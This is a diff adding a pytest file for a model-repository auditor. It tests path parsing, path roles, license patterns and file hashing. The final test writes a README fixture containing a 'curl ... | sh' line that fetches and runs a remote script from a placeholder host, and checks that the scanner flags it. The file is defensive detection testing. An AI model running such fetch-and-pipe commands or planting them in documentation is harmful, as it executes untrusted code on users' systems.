@@ -1,0 +1,71 @@
+"""The per-file fast paths of the scan give what the slow ones gave: string path parts as PurePosixPath,
+path roles from the rules, license patterns compiled on use, the survey's small-file records."""
+from __future__ import annotations
+
+import hashlib
+import json
+import re
+from pathlib import Path, PurePosixPath
+
+import pytest
+
+from auditor import inventory
+from auditor.model import Options
+from auditor.parsers import licensetext, loadgraph, relpath
+from auditor.pipeline import audit
+from auditor.sources import local
+
+PATHS = ["a.py", "x/y/Train.PY", ".env", "cfg/.env", "foo.", "a.tar.gz", "...", "x/.py", "docs.md/x.py",
+         "README", "part001/tokenizer_12.json", ".github/workflows/ci.yml", "a/b.c/d", "münchen/ß.Md"]
+
+
+@pytest.mark.parametrize("path", PATHS)
+def test_relpath_parts_are_those_of_purepath(path: str) -> None:
+    assert relpath.name(path) == PurePosixPath(path).name
+    assert relpath.suffix(path) == PurePosixPath(path).suffix
+
+
+@pytest.mark.parametrize(("path", "role"), [
+    (".github/workflows/sync.yml", loadgraph.CI), ("sub/.travis.yml", loadgraph.CI),
+    ("data/train.jsonl", loadgraph.DATA), ("x/Datasets/a.py", loadgraph.DATA),
+    ("examples/run.py", loadgraph.EXAMPLE), ("nb.ipynb", loadgraph.EXAMPLE), ("src/test_model.py", loadgraph.EXAMPLE),
+    ("Gradio_app.py", loadgraph.EXAMPLE), ("docs/modeling.py", loadgraph.DOCS), ("README.md", loadgraph.DOCS),
+    ("modeling_x.py", loadgraph.SHIPPED), ("./modeling_x.py", loadgraph.SHIPPED), ("a//b/modeling.py", loadgraph.SHIPPED),
+])
+def test_path_roles(path: str, role: str) -> None:
+    assert loadgraph.path_role(path) == role
+
+
+def test_every_license_extract_pattern_compiles_and_file_roles_match_each_pattern() -> None:
+    cat = licensetext.catalog()
+    assert cat.extract
+    for group in cat.extract.values():   # compiled on first use: a broken pattern must still fail a test
+        assert len(group.patterns) == len(group.pattern_texts)
+        assert len(group.negations) == len(group.negation_texts)
+    from auditor import rules
+    table = rules.load("licenses.yaml")["license_files"]
+    for name in ("license", "license-model.md", "notice", "use_policy.md", "copying", "model.py", "模型许可协议.pdf"):
+        expected = next((role for role, patterns in table.items() if any(re.match(p, name) for p in patterns)), "")
+        assert cat.file_role(name) == expected, name
+
+
+def test_survey_keeps_no_head_of_small_files_but_records_their_format_and_hash(tmp_path: Path) -> None:
+    (tmp_path / "config.json").write_text(json.dumps({"a": 1}))
+    oid = "a" * 64
+    (tmp_path / "w.safetensors").write_text(f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize 9\n")
+    snapshot = local.open_snapshot(str(tmp_path), Options())
+    surveyed = inventory.survey(snapshot, Options())
+    assert surveyed.read_whole["config.json"][0] == b""            # the format is in the record already
+    assert surveyed.read_whole["w.safetensors"][0].startswith(b"version")   # an LFS pointer keeps its oid's bytes
+    with inventory.Hashing(surveyed, snapshot, Options()) as hashing:
+        files = {f.path: f for f in hashing.result().files}
+    assert files["config.json"].format == "text"
+    assert files["config.json"].sha256 == hashlib.sha256((tmp_path / "config.json").read_bytes()).hexdigest()
+    assert files["w.safetensors"].format == "lfs-pointer" and files["w.safetensors"].publisher_sha256 == oid
+
+
+def test_readme_run_instruction_found_on_any_line(tmp_path: Path) -> None:
+    (tmp_path / "README.md").write_text("# card\n\nsome text\n" * 50 + "Run: curl -s https://x.example/i.sh | sh\n")
+    (tmp_path / "model.safetensors").write_bytes(b"")   # something to audit beside the card
+    found = [f for f in audit(str(tmp_path), Options(engines=("auditor",))).findings if f.rule == "SCRIPT-README-RUN"]
+    assert [(f.location, f.severity.label) for f in found] == [("line 151", "medium")]
